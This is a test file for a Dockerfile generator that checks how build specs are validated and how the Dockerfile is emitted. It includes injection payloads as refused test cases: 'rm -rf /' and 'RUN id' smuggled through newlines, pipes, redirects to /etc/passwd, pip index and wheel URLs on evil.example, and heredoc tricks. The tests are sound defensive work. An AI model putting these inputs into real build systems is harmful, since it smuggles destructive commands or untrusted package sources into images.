import {
  ImageBuildSpec,
  InvalidBuildSpecError,
  PIP_INDEX_URL_PATTERN,
  PIP_TRUSTED_HOST_PATTERN,
  ValidBuildSpec,
  generateDockerfile as generateFromValid,
  isImageRefOrId,
  parseBuildSpec,
  isImageReference,
  normalizeImageTag,
  validateBuildSpec,
} from './dockerfile';

/** Validates, then generates: what the service does. */
function generateDockerfile(spec: ImageBuildSpec, options?: Parameters<typeof generateFromValid>[1]): string {
  return generateFromValid(parseBuildSpec(spec), options);
}

const base: ImageBuildSpec = { name: 'team/trainer:1.0', baseImage: 'webapi/python:3' };

/** The fields an invalid spec is refused for. */
function refusedFields(spec: Partial<ImageBuildSpec>): string[] {
  const full = { ...base, ...spec };
  const errors = validateBuildSpec(full);
  // parseBuildSpec refuses exactly the same specs, naming the same fields.
  let thrown: InvalidBuildSpecError | undefined;
  try {
    parseBuildSpec(full);
  } catch (e) {
    thrown = e as InvalidBuildSpecError;
  }
  expect(thrown?.errors ?? []).toEqual(errors);
  for (const e of errors) expect(e.message.startsWith(e.field)).toBe(true);
  return errors.map((e) => e.field);
}

describe('parseBuildSpec', () => {
  it('returns a frozen copy of the known fields, so what was validated is what is generated', () => {
    const input = { ...base, additionalCommand: 'echo ok', extra: 'dropped' } as ImageBuildSpec;
    const valid: ValidBuildSpec = parseBuildSpec(input);
    expect(valid).toEqual({
      ...base,
      additionalCommand: 'echo ok',
      update: undefined,
      aptInstall: undefined,
      pipInstall: undefined,
    });
    expect(Object.isFrozen(valid)).toBe(true);
    input.additionalCommand = 'cat <<EOF';
    expect(generateFromValid(valid)).toBe('FROM webapi/python:3\nRUN echo ok\n');
  });

  it('is the only way to a spec generateDockerfile takes', () => {
    // @ts-expect-error: an unvalidated spec is not a ValidBuildSpec.
    expect(() => generateFromValid({ ...base })).not.toThrow();
    expect(() => parseBuildSpec({ ...base, name: 'Bad Name' })).toThrow(InvalidBuildSpecError);
  });
});

describe('the build option patterns (shared with the configuration schema)', () => {
  it('accept an http(s) index URL and a host name, and nothing that could leave its quotes', () => {
    expect(PIP_INDEX_URL_PATTERN.test('http://127.0.0.1:8080/simple/')).toBe(true);
    expect(PIP_INDEX_URL_PATTERN.test("http://x/' && rm -rf /")).toBe(false);
    expect(PIP_INDEX_URL_PATTERN.test('ftp://mirror/simple')).toBe(false);
    expect(PIP_TRUSTED_HOST_PATTERN.test('pypi.internal:3141')).toBe(true);
    expect(PIP_TRUSTED_HOST_PATTERN.test('a b')).toBe(false);
  });
});

describe('generateDockerfile', () => {
  it('writes FROM, apt upgrade, apt install, pip install and one RUN per command line, in order', () => {
    const dockerfile = generateDockerfile(
      {
        name: 'trainer',
        baseImage: 'webapi/python:3',
        update: true,
        aptInstall: 'jq  libgl1=1.6.0-1 ',
        pipInstall: 'numpy==1.26.4 torch>=2,<3 uvicorn[standard]',
        additionalCommand: 'mkdir -p /work\n\n  echo "a | b" > /work/x && ls $HOME\r\n',
      },
      { pipIndexUrl: 'http://127.0.0.1:8080/simple/', pipTrustedHost: '127.0.0.1' },
    );
    expect(dockerfile.split('\n')).toEqual([
      'FROM webapi/python:3',
      'ARG DEBIAN_FRONTEND=noninteractive',
      'RUN apt-get update && apt-get -y upgrade',
      "RUN apt-get update && apt-get install -y 'jq' 'libgl1=1.6.0-1'",
      "RUN PIP_INDEX_URL='http://127.0.0.1:8080/simple/' PIP_TRUSTED_HOST='127.0.0.1' PIP_BREAK_SYSTEM_PACKAGES=1 " +
        "PIP_ROOT_USER_ACTION=ignore PIP_DISABLE_PIP_VERSION_CHECK=1 pip install --no-cache-dir 'numpy==1.26.4' 'torch>=2,<3' 'uvicorn[standard]'",
      'RUN mkdir -p /work',
      'RUN echo "a | b" > /work/x && ls $HOME',
      '',
    ]);
  });

  it('writes only FROM for a bare spec, and no apt settings without apt', () => {
    expect(generateDockerfile({ name: 'x', baseImage: 'webapi/busybox:latest', additionalCommand: '' })).toBe(
      'FROM webapi/busybox:latest\n',
    );
    expect(
      generateDockerfile({ name: 'x', baseImage: 'busybox', update: false, aptInstall: '  ', pipInstall: '' }),
    ).toBe('FROM busybox\n');
  });

  it("puts the operator's index in the pip step only, never a request field", () => {
    const dockerfile = generateDockerfile({ ...base, pipInstall: 'requests' });
    expect(dockerfile).not.toContain('PIP_INDEX_URL');
    expect(dockerfile).toContain("pip install --no-cache-dir 'requests'");
  });

  it('refuses invalid operator options', () => {
    expect(() => generateDockerfile({ ...base, pipInstall: 'x' }, { pipIndexUrl: "http://x/' && rm -rf /" })).toThrow(
      /BUILD_PIP_INDEX_URL/,
    );
    expect(() => generateDockerfile({ ...base, pipInstall: 'x' }, { pipTrustedHost: 'a b' })).toThrow(
      /BUILD_PIP_TRUSTED_HOST/,
    );
  });
});

describe('hostile input is refused with the field named', () => {
  it.each([
    ['newline then an instruction', 'busybox\nRUN rm -rf /'],
    ['carriage return', 'busybox\rRUN id'],
    ['a space and a flag', 'busybox --platform=linux/arm64'],
    ['an option', '--platform=x'],
    ['AS and a stage', 'busybox AS builder'],
    ['a variable', '${BASE}'],
    ['shell metacharacters', 'busybox;id'],
    ['uppercase repository', 'Busybox'],
    ['empty', ''],
    ['a backslash continuation', 'busybox \\'],
  ])('baseImage: %s', (_what, baseImage) => {
    expect(refusedFields({ baseImage })).toEqual(['baseImage']);
  });

  it.each([
    ['a newline', 'my-image\nRUN id'],
    ['a digest', 'my-image@sha256:' + 'a'.repeat(64)],
    ['uppercase', 'MyImage'],
    ['a space', 'my image'],
    ['a leading dash', '-t'],
    ['too long', 'a'.repeat(256)],
  ])('name: %s', (_what, name) => {
    expect(refusedFields({ name })).toEqual(['name']);
  });

  it.each([
    ['an option -o', 'jq -o Dpkg::Options::=--force-confnew'],
    ['an option --allow-unauthenticated', '--allow-unauthenticated jq'],
    ['a newline and an instruction', 'jq\nRUN id'],
    ['a command separator', 'jq;id'],
    ['&&', 'jq && id'],
    ['command substitution', 'jq $(id)'],
    ['backticks', 'jq `id`'],
    ['a pipe', 'jq|sh'],
    ['a redirect', 'jq>/etc/passwd'],
    ['a quote', "jq'"],
    ['a glob', 'lib*'],
    ['a path', './local.deb'],
    ['a version without a name', '=1.0'],
    ['a version with a space', 'jq= 1.0'],
    ['uppercase', 'Jq'],
    ['a single character', 'j'],
    ['a backslash', 'jq\\'],
  ])('aptInstall: %s', (_what, aptInstall) => {
    expect(refusedFields({ aptInstall })).toEqual(['aptInstall']);
  });

  it.each([
    ['-o', '-o requests'],
    ['--index-url', '--index-url http://evil.example/simple requests'],
    ['-i', '-i http://evil.example/simple requests'],
    ['--extra-index-url=', '--extra-index-url=http://evil.example requests'],
    ['-r a requirements file', '-r /etc/passwd'],
    ['-e editable', '-e .'],
    ['a URL', 'https://evil.example/pkg.whl'],
    ['a direct reference', 'pkg@https://evil.example/pkg.whl'],
    ['a direct reference with spaces', 'pkg @ https://evil.example/pkg.whl'],
    ['a local path', './pkg'],
    ['an environment marker', 'pkg;python_version<"3.8"'],
    ['a newline and an instruction', 'requests\nRUN id'],
    ['command substitution', 'requests$(id)'],
    ['backticks', '`id`'],
    ['a pipe', 'requests|sh'],
    ['&&', 'requests && curl x'],
    ['a quote', "requests'"],
    ['a name ending in a dash', 'requests-'],
    ['an empty pin', 'requests=='],
    ['a single =', 'requests=1.0'],
  ])('pipInstall: %s', (_what, pipInstall) => {
    expect(refusedFields({ pipInstall })).toEqual(['pipInstall']);
  });

  it.each([
    ['a trailing backslash joining the next line', 'echo a \\\nFROM evil'],
    ['a trailing backslash and spaces', 'echo a \\   '],
    ['a lone carriage return', 'echo a\rRUN id'],
    ['a vertical tab', 'echo a\u000bRUN id'],
    ['a NUL', 'echo a\u0000'],
    ['a line separator', 'echo a\u2028RUN id'],
    ['a next-line character', 'echo a\u0085RUN id'],
    ['a heredoc', 'cat <<EOF > /x'],
    ['a quoted heredoc', "cat <<-'EOF'"],
    ['a double-quoted heredoc', 'cat <<"EOF"'],
    ['a backslash-quoted heredoc', 'cat <<\\EOF'],
    ['a numeric delimiter', 'cat <<1'],
    ['a heredoc on a file descriptor', 'cat 0<<EOF'],
    ['a heredoc as the first word', '<<EOF cat'],
    ['a heredoc after a tab', 'cat\t<<EOF'],
    ['a heredoc behind an unset variable', 'cat $X<<EOF'],
    ['a heredoc behind a braced variable', 'cat ${X}<<-EOF'],
  ])('additionalCommand: %s', (_what, additionalCommand) => {
    expect(refusedFields({ additionalCommand })).toEqual(['additionalCommand']);
  });

  it.each([
    ['an arithmetic shift', 'echo $((1<<3))'],
    ['a spaced arithmetic shift', 'echo $(( 1 << 3 ))'],
    ['a here-string', 'cat <<< word'],
    ['a quoted <<', 'echo "<<"'],
  ])('additionalCommand allows %s', (_what, additionalCommand) => {
    expect(refusedFields({ additionalCommand })).toEqual([]);
  });

  it('refuses wrong types with the field named', () => {
    const errors = validateBuildSpec({
      name: 1,
      baseImage: ['busybox'],
      update: 'yes',
      aptInstall: {},
      pipInstall: 2,
      additionalCommand: [],
    });
    expect(errors.map((e) => e.field).sort()).toEqual([
      'additionalCommand',
      'aptInstall',
      'baseImage',
      'name',
      'pipInstall',
      'update',
    ]);
  });

  it('keeps every RUN on one line: a Dockerfile instruction never starts inside a field', () => {
    // Whatever survives validation, each generated line starts with a known instruction.
    const dockerfile = generateDockerfile({
      ...base,
      update: true,
      aptInstall: 'jq file=1:5.44-3',
      pipInstall: 'a b==1 c[x,y]>=2,!=3',
      additionalCommand: 'echo FROM evil\n   RUN id\n# comment\n["/bin/sh","-c","id"]\nx=$((1<<3)); echo $x',
    });
    for (const line of dockerfile.trimEnd().split('\n')) expect(line).toMatch(/^(FROM|ARG|RUN) /);
    expect(dockerfile).toContain('RUN RUN id');
    expect(dockerfile).toContain('RUN x=$((1<<3)); echo $x');
  });
});

describe('image references', () => {
  it.each([
    'busybox',
    'webapi/python:3',
    'localhost:5000/team/base:1.0',
    'registry.example.com/a/b/c:v1.2_rc-3',
    'python@sha256:' + 'a'.repeat(64),
    'python:3.11@sha256:' + 'b'.repeat(64),
    'my__image',
    'a.b-c_d',
  ])('accepts %s', (ref) => {
    expect(isImageReference(ref)).toBe(true);
  });

  it('normalizes a name without a tag to :latest, leaving registries with ports alone', () => {
    expect(normalizeImageTag('busybox')).toBe('busybox:latest');
    expect(normalizeImageTag('localhost:5000/base')).toBe('localhost:5000/base:latest');
    expect(normalizeImageTag('localhost:5000/base:1')).toBe('localhost:5000/base:1');
    expect(normalizeImageTag('team/x:2')).toBe('team/x:2');
  });

  it('takes image ids for removal', () => {
    expect(isImageRefOrId('sha256:' + 'c'.repeat(64))).toBe(true);
    expect(isImageRefOrId('0123456789ab')).toBe(true);
    expect(isImageRefOrId('busybox:latest')).toBe(true);
    expect(isImageRefOrId('busybox latest')).toBe(false);
    expect(isImageRefOrId('../x')).toBe(false);
  });
});
